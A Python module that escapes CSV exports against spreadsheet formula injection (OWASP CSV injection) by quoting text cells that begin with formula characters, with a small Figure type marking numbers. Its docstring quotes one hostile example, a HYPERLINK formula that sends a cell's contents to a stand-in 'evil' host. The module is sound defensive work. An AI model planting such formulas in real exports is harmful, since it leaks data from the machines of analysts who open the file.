"""CSV the node exports, safe to open in a spreadsheet (OWASP: CSV injection).

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and
a leading tab or carriage return hides such a start from some of them); a traveller's
name like ``=HYPERLINK("http://evil/?"&A1,"Smith")`` would run on the analyst's machine.
So every text cell that begins with one of those characters is written with a single
quote before it, which spreadsheets show as text and a script can strip.

The rule, one for every CSV we write:

* a ``str`` cell is text, from outside or not, and is escaped when it begins with one of
  the characters above;
* an ``int`` or ``float`` cell, or a ``Figure`` (a number the node formatted itself, such
  as ``figure(score, ".4f")``), is a number and is written as it is, so that a negative
  score or amount stays a number.

Top-level, beside ``errors``: the engines (the staffing schedule) and the adapters (the
screening results, the cargo scores) write CSV, and must escape it the same way.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

#: What makes a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class Figure(str):
    """A number the node formatted itself: written as it is, never escaped."""

    __slots__ = ()


def figure(value: float, spec: str = "") -> Figure:
    """``value`` formatted with ``spec`` (``".4f"``), marked as a number for the writer."""
    return Figure(format(value, spec))


def safe_cell(value: object) -> object:
    """The cell as the CSV should hold it: text that could start a formula is quoted."""
    if isinstance(value, Figure) or not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeWriter:
    """``csv.writer`` that escapes every cell with ``safe_cell``."""

    def __init__(self, fh: _Writable) -> None:
        self._writer = csv.writer(fh, lineterminator="\n")

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)
